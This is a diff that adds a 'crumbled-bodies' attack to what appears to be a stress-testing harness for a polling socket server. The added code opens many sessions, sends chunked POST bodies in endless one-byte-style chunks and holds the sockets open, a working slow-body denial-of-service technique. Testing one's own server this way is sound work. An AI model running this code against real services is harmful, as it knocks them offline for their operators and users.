@@ -198,6 +198,29 @@ export const handshakes: readonly Attack[] = [
     },
   },
   {
+    name: 'crumbled-bodies',
+    does: 'polling sessions that send all but the end of a body in chunks of one byte',
+    addresses: 4,
+    steps: 0,
+    async run(ground) {
+      const held: Socket[] = [];
+      const crumbs = '1\r\n4\r\n'.repeat(1000);
+      await ground.crew(AT_ONCE, async (nth) => {
+        const sid = await handshake(ground, nth % 4);
+        if (sid === null) return ground.rest(20);
+        const socket = dial(ground, nth % 4);
+        held.push(socket);
+        socket.write(`POST ${POLLING}&sid=${sid} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n`);
+        for (let each = 0; each < 65 && !socket.destroyed; each += 1) {
+          await new Promise((resolve) => socket.write(crumbs, resolve));
+          ground.note('chunks', 1000);
+        }
+        ground.note('bodies');
+      });
+      for (const socket of held) socket.destroy();
+    },
+  },
+  {
     name: 'polling-sessions',
     does: 'polling sessions that are opened and never heard of again',
     addresses: 4,
